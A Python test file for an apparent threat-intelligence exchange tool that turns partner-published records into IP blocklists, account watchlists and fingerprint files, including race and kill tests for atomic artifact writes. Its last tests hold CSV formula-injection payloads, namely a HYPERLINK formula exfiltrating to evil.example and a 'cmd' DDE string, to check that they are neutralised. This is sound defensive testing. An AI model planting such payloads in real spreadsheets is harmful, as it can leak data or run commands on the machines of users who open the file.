"""`dx poll` + `dx act` end to end: records published by lab A, artifacts at lab B.

Expected artifact content is computed from the records lab A published (via
the mapping's own id functions), never hard-coded.
"""

from __future__ import annotations

import csv
import io
import ipaddress
import os
import random
import subprocess
import sys
import threading
import time
from datetime import timedelta
from pathlib import Path

import orjson
import pytest
from click.testing import CliRunner
from taxii2client.v21 import Collection

from exchange.commands.act import act as act_command
from exchange.feed.atomic import CURRENT_LINK, GENERATION_PREFIX, LOCK_NAME
from exchange.feed.store import FeedStore, ReceivedVersion
from exchange.lab_config import load_lab_config
from mappings.convert import records_to_bundle
from mappings.names import EXT_IP_RANGE_INDICATOR
from mappings.record_objects import (
    cluster_object_id,
    fingerprint_indicator_id,
    range_indicator_id,
)
from mappings.records import AccountCluster, IpRange, PromptFingerprint
from mappings.timestamps import object_version
from mappings.vocab import to_stix_term
from mappings.well_known import WELL_KNOWN_OBJECTS
from tests.feed.records_factory import NOW, cluster, fingerprint, ip_range, stix_time
from tests.support.exchange import LAB_A, REPO, Exchange, run_dx


def publish_records(exchange: Exchange, records: list, collection_id: str) -> None:
    collection = Collection(
        f"{exchange.api_root_url}collections/{collection_id}/",
        user="lab-a",
        password=exchange.keys["lab-a"],
    )
    bundle = records_to_bundle(records, LAB_A)
    # Only the lab's own objects: the well-known ones (TLP markings, extension
    # definitions, ATLAS) are the project's, and exports add them from mappings.
    own = [obj for obj in bundle["objects"] if obj["id"] not in WELL_KNOWN_OBJECTS]
    status = collection.add_objects({"objects": own}, timeout=60)
    assert status.failure_count == 0, status.failures


def act(lab: Path, *args: str) -> dict[str, bytes]:
    """`dx act` in-process (its own process start-up is tested in test_artifacts)."""
    done = CliRunner().invoke(act_command, ["--config", str(lab), "--quiet", *args])
    assert done.exit_code == 0, done.output
    out = load_lab_config(lab).artifacts_dir
    published = sorted(path for path in out.iterdir() if not path.name.startswith("."))
    return {path.name: path.read_bytes() for path in published}


def body_lines(content: bytes) -> list[str]:
    return [line for line in content.decode().splitlines() if not line.startswith("#")]


def csv_rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode())))


def live_ranges(records: list, actions: set[str]) -> list[str]:
    networks = {
        r.network
        for r in records
        if isinstance(r, IpRange)
        and not r.withdrawn
        and r.valid_until > NOW
        and to_stix_term(r.recommended_action) in actions
    }
    return [n.compressed for n in sorted(networks, key=lambda n: (n.version, n))]


def expected_watchlist(records: list) -> list[tuple[str, ...]]:
    rows = []
    for record in records:
        if not isinstance(record, AccountCluster) or record.withdrawn:
            continue
        for member in record.members:
            rows.append(
                (
                    member.hash,
                    to_stix_term(member.kind),
                    record.hashing.key_id,
                    cluster_object_id(LAB_A, record.cluster_id),
                    LAB_A.identity_id,
                    str(record.confidence),
                    to_stix_term(record.enforcement),
                )
            )
    return sorted(rows, key=lambda row: (row[0], row[3]))


def expected_fingerprints(records: list) -> list[dict]:
    entries = []
    for record in records:
        if not isinstance(record, PromptFingerprint):
            continue
        for position, value in enumerate(record.fingerprints):
            rule = value.match_rule.model_dump(exclude_none=True)
            entries.append(
                {
                    "algorithm": value.algorithm,
                    "key_id": value.key_id,
                    "value": value.value,
                    "match_rule": rule,
                    "parameters": dict(value.parameters),
                    "producer": LAB_A.identity_id,
                    "indicator_id": fingerprint_indicator_id(
                        LAB_A, record.fingerprint_id, position
                    ),
                    "fingerprint_id": record.fingerprint_id,
                    "confidence": record.confidence,
                }
            )
    return sorted(
        entries, key=lambda e: (e["algorithm"], e["key_id"], e["value"], e["indicator_id"])
    )


@pytest.fixture(scope="module")
def first_records() -> list:
    return [
        ip_range("198.51.100.0/24", "block"),
        ip_range("203.0.113.0/25", "rate_limit", confidence=40),
        ip_range("2001:db8:a00::/40", "block"),
        ip_range("192.0.2.0/26", "block", valid_until=NOW - timedelta(days=1)),
        cluster("cl-1", ["alice@example.org", "+15550100", "bob@example.org"]),
        cluster("cl-2", ["carol@example.org"], enforcement="banned", confidence=60),
        fingerprint("fp-1"),
    ]


def test_poll_then_act_writes_every_artifact_from_the_current_feed(
    exchange: Exchange, first_records: list
) -> None:
    collection_id = exchange.add_collection("act feed", "act-feed")
    publish_records(exchange, first_records, collection_id)
    lab = exchange.lab_config("act-lab", collections=[collection_id])
    run_dx("poll", "--config", str(lab))
    files = act(lab)

    assert sorted(files) == [
        "blocklist.nft",
        "blocklist.nginx.conf",
        "blocklist.txt",
        "fingerprints.jsonl",
        "ranges.csv",
        "watchlist.csv",
    ]
    blocked = live_ranges(first_records, {"block"})
    assert blocked == ["198.51.100.0/24", "2001:db8:a00::/40"]
    assert body_lines(files["blocklist.txt"]) == blocked
    assert body_lines(files["blocklist.nginx.conf"]) == [f"deny {c};" for c in blocked]
    nft = files["blocklist.nft"].decode()
    assert "add element inet dx_exchange blocklist_v4 { 198.51.100.0/24 }" in nft
    assert "add element inet dx_exchange blocklist_v6 { 2001:db8:a00::/40 }" in nft

    ranges = csv_rows(files["ranges.csv"])
    assert [(r["cidr"], r["action"]) for r in ranges] == [
        ("198.51.100.0/24", "block"),
        ("203.0.113.0/25", "rate-limit"),
        ("2001:db8:a00::/40", "block"),
    ]
    assert {r["indicator_id"] for r in ranges} == {
        range_indicator_id(LAB_A, c) for c in ("198.51.100.0/24", "203.0.113.0/25")
    } | {range_indicator_id(LAB_A, "2001:db8:a00::/40")}
    assert {r["producer_name"] for r in ranges} == {"Lab A"}

    columns = ("hash", "kind", "key_id", "cluster", "producer", "confidence", "enforcement")
    watch = [tuple(row[k] for k in columns) for row in csv_rows(files["watchlist.csv"])]
    assert watch == expected_watchlist(first_records)
    fingerprints = [orjson.loads(line) for line in files["fingerprints.jsonl"].splitlines()]
    assert fingerprints == expected_fingerprints(first_records)

    # Same store, same instant: byte-identical files, and nothing left behind but the
    # current and previous generations, the link that selects one, and the lock file.
    at = ("--at", (NOW + timedelta(minutes=1)).strftime("%Y-%m-%dT%H:%M:%SZ"))
    assert act(lab, *at) == act(lab, *at)
    out = load_lab_config(lab).artifacts_dir
    hidden = sorted(p.name for p in out.iterdir() if p.name.startswith("."))
    assert (hidden[0], hidden[-1]) == (CURRENT_LINK, LOCK_NAME), hidden
    assert len(hidden) == 4 and all(n.startswith(GENERATION_PREFIX) for n in hidden[1:3]), hidden


def test_options_choose_actions_confidence_and_instant(
    exchange: Exchange, first_records: list
) -> None:
    collection_id = exchange.add_collection("act options", "act-options")
    publish_records(exchange, first_records, collection_id)
    lab = exchange.lab_config("act-options-lab", collections=[collection_id])
    run_dx("poll", "--config", str(lab))

    both = act(lab, "--block-actions", "block,rate_limit")
    assert body_lines(both["blocklist.txt"]) == live_ranges(first_records, {"block", "rate-limit"})

    confident = act(lab, "--block-actions", "block,rate-limit", "--min-confidence", "70")
    assert "203.0.113.0/25" not in body_lines(confident["blocklist.txt"])
    assert {row["cluster"] for row in csv_rows(confident["watchlist.csv"])} == {
        cluster_object_id(LAB_A, "cl-1")
    }

    before_expiry = (NOW - timedelta(days=2)).strftime("%Y-%m-%dT%H:%M:%SZ")
    earlier = act(lab, "--at", before_expiry)
    assert "192.0.2.0/26" in body_lines(earlier["blocklist.txt"])


def test_revoked_range_and_updated_cluster_reach_the_artifacts_on_the_next_run(
    exchange: Exchange, first_records: list
) -> None:
    collection_id = exchange.add_collection("act updates", "act-updates")
    publish_records(exchange, first_records, collection_id)
    lab = exchange.lab_config("act-updates-lab", collections=[collection_id])
    run_dx("poll", "--config", str(lab))
    before = act(lab)
    assert "198.51.100.0/24" in body_lines(before["blocklist.txt"])

    later = NOW - timedelta(minutes=5)
    withdrawn = ip_range("198.51.100.0/24", "block", updated=later, withdrawn=True)
    grown = cluster(
        "cl-1",
        ["alice@example.org", "+15550100", "bob@example.org", "dave@example.org"],
        enforcement="banned",
        confidence=95,
        updated=later,
    )
    publish_records(exchange, [withdrawn, grown], collection_id)
    run_dx("poll", "--config", str(lab))
    after = act(lab)

    current = [r for r in first_records if getattr(r, "cidr", None) != "198.51.100.0/24"]
    current = [r for r in current if getattr(r, "cluster_id", None) != "cl-1"] + [grown]
    assert body_lines(after["blocklist.txt"]) == live_ranges(current, {"block"})
    assert "198.51.100.0/24" not in after["ranges.csv"].decode()
    watch = csv_rows(after["watchlist.csv"])
    cl1 = [row for row in watch if row["cluster"] == cluster_object_id(LAB_A, "cl-1")]
    assert len(cl1) == 4
    assert {(row["enforcement"], row["confidence"]) for row in cl1} == {("banned", "95")}

    with FeedStore(load_lab_config(lab).store_path) as store:
        versions = [
            v for v in store.iter_versions(types=["account-cluster"]) if "cl-1" in str(v.obj)
        ]
    assert [v.obj["modified"] for v in versions] == sorted(v.obj["modified"] for v in versions)
    assert len(versions) == 2, "the local store keeps the cluster's history"
    assert ipaddress.ip_network("198.51.100.0/24")  # the revoked range stays in history only


# --- Artifact atomicity: readers racing `dx act` runs and SIGKILLs -----------------------------

ARTIFACTS = (
    "blocklist.nft",
    "blocklist.nginx.conf",
    "blocklist.txt",
    "fingerprints.jsonl",
    "ranges.csv",
    "watchlist.csv",
)
RACE_RUNS = int(os.environ.get("DX_ACT_RACE_RUNS", "8"))
RACE_KILLS = int(os.environ.get("DX_ACT_RACE_KILLS", "3"))
# `dx act` run again and again in one process (an interpreter start costs more than a
# run), alternating two labs' stores into one output directory.
ACT_LOOP = """
import sys
from exchange.commands.act import act
first, second, out, at, runs = sys.argv[1:]
for run in range(int(runs)):
    lab = (first, second)[run % 2]
    act.main(["--config", lab, "--out", out, "--quiet", "--at", at], standalone_mode=False)
"""


def _local_lab(directory: Path, records: list) -> Path:
    """A lab.toml whose local store holds ``records`` as a poll would have stored them.

    `dx act` reads only the local store, so no server is needed to race it.
    """
    directory.mkdir()
    objects = records_to_bundle(records, LAB_A)["objects"]
    versions = [
        ReceivedVersion(obj["id"], object_version(obj) or stix_time(NOW), stix_time(NOW), obj)
        for obj in objects
    ]
    with FeedStore(directory / "feed.sqlite3") as store:
        store.store_page("http://exchange.invalid/api/", "race", versions, stix_time(NOW))
    lab = directory / "lab.toml"
    lab.write_text(
        '[server]\napi_root = "http://exchange.invalid/api/"\npartner_id = "lab-b"\n'
        'api_key = "unused"\n[local]\nstore = "feed.sqlite3"\nartifacts = "artifacts"\n',
        encoding="utf-8",
    )
    return lab


def _act_loop(labs: list[Path], out: Path, at: str, runs: int) -> subprocess.Popen:
    return subprocess.Popen(
        [sys.executable, "-c", ACT_LOOP, str(labs[0]), str(labs[1]), str(out), at, str(runs)],
        cwd=REPO,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )


class ArtifactReader(threading.Thread):
    """Reads every artifact in a loop, by name and as a set through ``.dx-current``.

    Every read must be byte-equal to one complete reference version; every set
    (the link resolved once, then all files read from that directory) must be
    one reference set entirely, never a mix of two runs.
    """

    def __init__(self, out: Path, references: list[dict[str, bytes]]) -> None:
        super().__init__(daemon=True)
        self.out = out
        self.references = references
        self.stop = threading.Event()
        self.problems: list[str] = []
        self.reads = 0
        self.sets_seen: set[int] = set()

    def run(self) -> None:
        while not self.stop.is_set() and len(self.problems) < 20:
            for name in ARTIFACTS:
                try:
                    content = (self.out / name).read_bytes()
                except OSError as error:
                    self.problems.append(f"{name}: {error}")
                    continue
                self.reads += 1
                if all(content != ref[name] for ref in self.references):
                    self.problems.append(f"{name}: {len(content)} bytes match no complete version")
            generation = self.out
            try:
                generation = self.out / os.readlink(self.out / CURRENT_LINK)
                files = {name: (generation / name).read_bytes() for name in ARTIFACTS}
            except OSError as error:
                if not self._removed_as_too_old(generation):
                    self.problems.append(f"set: {error}")
                continue
            matching = [i for i, ref in enumerate(self.references) if files == ref]
            if not matching:
                self.problems.append(f"set in {generation.name} mixes runs")
            self.sets_seen.update(matching)

    @staticmethod
    def _removed_as_too_old(generation: Path) -> bool:
        """This reader was descheduled for two whole runs: its generation was tidied away.

        That is the documented limit (the previous generation is kept, older ones
        are not), not a torn set; a generation that stays while its files are
        missing is one.
        """
        if generation.name.startswith(GENERATION_PREFIX):
            time.sleep(0.2)  # let a removal in progress finish
            return not generation.exists()
        return False


def _act_in_process(lab: Path, out: Path, at: str) -> None:
    done = CliRunner().invoke(
        act_command, ["--config", str(lab), "--out", str(out), "--quiet", "--at", at]
    )
    assert done.exit_code == 0, done.output


def _kill_while_writing(process: subprocess.Popen, out: Path, generations: int) -> None:
    """SIGKILL just after the ``generations``-th new generation directory appears (mid-write)."""
    seen = {p.name for p in out.glob(f"{GENERATION_PREFIX}*")}
    new = 0
    deadline = time.monotonic() + 60
    while process.poll() is None and time.monotonic() < deadline and new < generations:
        names = {p.name for p in out.glob(f"{GENERATION_PREFIX}*")}
        new += len(names - seen)
        seen |= names
        time.sleep(0.0002)
    time.sleep(random.uniform(0, 0.004))  # spread the kills over the write
    assert process.poll() is None, process.communicate()[1].decode()
    process.kill()
    process.wait(timeout=30)


def test_readers_see_complete_artifacts_and_whole_sets_through_runs_and_kills(
    tmp_path: Path,
) -> None:
    """`dx act` alternates two feeds into one directory, some runs SIGKILLed part-way."""
    first = [ip_range(f"10.{i // 250}.{i % 250}.0/24") for i in range(300)]
    first += [cluster("race-1", [f"user{i}@example.org" for i in range(300)])]
    second = [ip_range(f"172.16.{i % 250}.{i // 250 * 8}/29", "block") for i in range(200)]
    second += [cluster("race-2", ["x@example.org"]), fingerprint("race-fp")]
    labs = [_local_lab(tmp_path / "x", first), _local_lab(tmp_path / "y", second)]
    at = (NOW + timedelta(minutes=1)).strftime("%Y-%m-%dT%H:%M:%SZ")
    references = []
    for index, lab in enumerate(labs):
        reference_out = tmp_path / f"reference-{index}"
        _act_in_process(lab, reference_out, at)
        references.append({name: (reference_out / name).read_bytes() for name in ARTIFACTS})
    assert all(references[0][name] != references[1][name] for name in ARTIFACTS)

    out = tmp_path / "shared"
    _act_in_process(labs[0], out, at)
    reader = ArtifactReader(out, references)
    reader.start()
    try:
        _, stderr = (process := _act_loop(labs[::-1], out, at, RACE_RUNS)).communicate(timeout=300)
        assert process.returncode == 0, stderr.decode()
        for _kill in range(RACE_KILLS):
            _kill_while_writing(_act_loop(labs, out, at, 10_000), out, random.randint(1, 4))
    finally:
        reader.stop.set()
        reader.join(timeout=30)
    assert not reader.problems, reader.problems
    assert reader.reads > 0 and reader.sets_seen == {0, 1}, (reader.reads, reader.sets_seen)

    # A clean run tidies what the killed ones left: the two newest generations, nothing else.
    _act_in_process(labs[1], out, at)
    assert {name: (out / name).read_bytes() for name in ARTIFACTS} == references[1]
    hidden = sorted(p.name for p in out.iterdir() if p.name.startswith("."))
    generations = [name for name in hidden if name.startswith(GENERATION_PREFIX)]
    assert len(generations) <= 2 and hidden == sorted([CURRENT_LINK, LOCK_NAME, *generations]), (
        hidden
    )
    assert sorted(p.name for p in out.iterdir() if not p.name.startswith(".")) == list(ARTIFACTS)


FORMULAS = ('=HYPERLINK("https://evil.example/?"&A2,"details")', "+1+1", "-2+3", "@SUM(1)")


def test_partner_text_reaches_the_csv_files_as_text_not_formulas(exchange: Exchange) -> None:
    """Lab B names itself with a formula and recommends a formula action: cells start with '."""
    from tests.feed.stix_factory import indicator as plain_indicator
    from tests.support.exchange import LAB_B_IDENTITY

    collection_id = exchange.add_collection("formula feed", "formula-feed")
    exchange.admin(["grant", "lab-b", collection_id, "--read", "--write"])
    identity = {
        "type": "identity",
        "spec_version": "2.1",
        "id": LAB_B_IDENTITY,
        "created_by_ref": LAB_B_IDENTITY,
        "created": "2026-01-01T00:00:00.000Z",
        "modified": "2026-01-01T00:00:00.000Z",
        "name": FORMULAS[0],
        "identity_class": "organization",
    }
    ranges = []
    for number, action in enumerate((*FORMULAS[1:], "\tblock")):
        obj = plain_indicator(f"formula-{number}", f"198.51.100.{number * 16}/28")
        obj["created_by_ref"] = LAB_B_IDENTITY
        obj["extensions"] = {EXT_IP_RANGE_INDICATOR: {"recommended_action": action}}
        ranges.append(obj)
    collection = Collection(
        f"{exchange.api_root_url}collections/{collection_id}/",
        user="lab-b",
        password=exchange.keys["lab-b"],
    )
    status = collection.add_objects({"objects": [identity, *ranges]}, timeout=60)
    assert status.failure_count == 0, status.failures
    lab = exchange.lab_config("formula-lab", collections=[collection_id])
    run_dx("poll", "--config", str(lab))
    rows = csv_rows(act(lab)["ranges.csv"])

    assert [row["producer_name"] for row in rows] == ["'" + FORMULAS[0]] * 4
    # Actions are normalised (lower case, stripped: the tab is gone), then neutralised.
    assert sorted(row["action"] for row in rows) == ["'+1+1", "'-2+3", "'@sum(1)", "block"]
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_watchlist_cells_are_neutralised_too(tmp_path: Path) -> None:
    from exchange.feed.artifacts import render_watchlist
    from exchange.feed.current import CurrentFeed, WatchEntry

    entry = WatchEntry(
        hash="a" * 64,
        kind="=cmd|' /C calc'!A0",
        key_id="\rkey",
        cluster="account-cluster--00000000-0000-4000-8000-000000000000",
        cluster_key="+cluster",
        producer="identity--00000000-0000-4000-8000-000000000001",
        confidence=-5,
        enforcement="@enforce",
    )
    feed = CurrentFeed(watchlist=[entry], producer_names={entry.producer: "-name"})
    content = render_watchlist(feed).decode()
    (row,) = list(csv.DictReader(io.StringIO(content, newline="")))
    assert (row["kind"], row["key_id"], row["cluster_key"]) == (
        "'=cmd|' /C calc'!A0",
        "'\nkey",  # a carriage return would end the row in CSV readers: written as \n
        "'+cluster",
    )
    assert (row["enforcement"], row["producer_name"]) == ("'@enforce", "'-name")
    assert row["confidence"] == "-5"  # a number, not text: left as it is
    assert row["hash"] == "a" * 64


def test_a_carriage_return_cannot_add_rows_to_a_csv_file() -> None:
    from exchange.feed.artifacts import render_watchlist
    from exchange.feed.current import CurrentFeed, WatchEntry

    producer = "identity--00000000-0000-4000-8000-000000000001"
    entry = WatchEntry(
        hash="b" * 64,
        kind="email",
        key_id="k",
        cluster="account-cluster--00000000-0000-4000-8000-000000000000",
        cluster_key="cl\r" + "c" * 64,  # no comma: the writer would quote the cell then
        producer=producer,
        confidence=50,
        enforcement="banned",
    )
    content = render_watchlist(CurrentFeed(watchlist=[entry], producer_names={producer: "B"}))
    rows = list(csv.DictReader(io.StringIO(content.decode(), newline="")))
    assert [row["hash"] for row in rows] == ["b" * 64]
